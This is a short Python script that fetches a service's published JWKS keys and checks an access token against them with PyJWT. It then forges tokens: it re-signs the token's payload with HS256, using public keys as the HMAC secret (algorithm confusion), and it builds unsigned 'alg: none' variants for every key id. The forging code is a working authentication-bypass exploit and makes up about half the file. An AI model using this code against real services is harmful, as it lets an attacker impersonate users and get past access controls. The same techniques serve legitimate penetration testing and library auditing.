"""A service that checks access tokens by the published keys, with PyJWT: says what it found, and forges some besides.

    token_client.py URL TOKEN PEM...
"""

import base64
import hashlib
import hmac
import json
import sys
import urllib.request

import jwt

url, token, pems = sys.argv[1], sys.argv[2], sys.argv[3:]
address = url + "/.well-known/jwks.json"
with urllib.request.urlopen(address) as answer:
    found = {"type": answer.headers["content-type"], "cache": answer.headers["cache-control"]}
    found["keys"] = json.load(answer)["keys"]

try:
    key = jwt.PyJWKClient(address).get_signing_key_from_jwt(token)
    found["claims"] = jwt.decode(
        token, key.key, algorithms=[key.algorithm_name], audience="atrium", issuer="https://api.example"
    )
except jwt.PyJWTError as error:
    found["error"] = type(error).__name__


def encoded(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


# The public key taken for a secret, in each form in which somebody may have it.
payload = token.split(".")[1]
kid = jwt.get_unverified_header(token)["kid"]
secrets = [open(pem, "rb").read() for pem in pems]
secrets += [json.dumps(key, separators=(",", ":")).encode() for key in found["keys"]]
found["forged"] = []
for name in [kid] + [key["kid"] for key in found["keys"]]:
    for secret in secrets:
        head = encoded(json.dumps({"alg": "HS256", "typ": "JWT", "kid": name}).encode())
        signature = hmac.new(secret, f"{head}.{payload}".encode(), hashlib.sha256).digest()
        found["forged"].append(f"{head}.{payload}.{encoded(signature)}")
    head = encoded(json.dumps({"alg": "none", "typ": "JWT", "kid": name}).encode())
    found["forged"].append(f"{head}.{payload}.")
print(json.dumps(found))
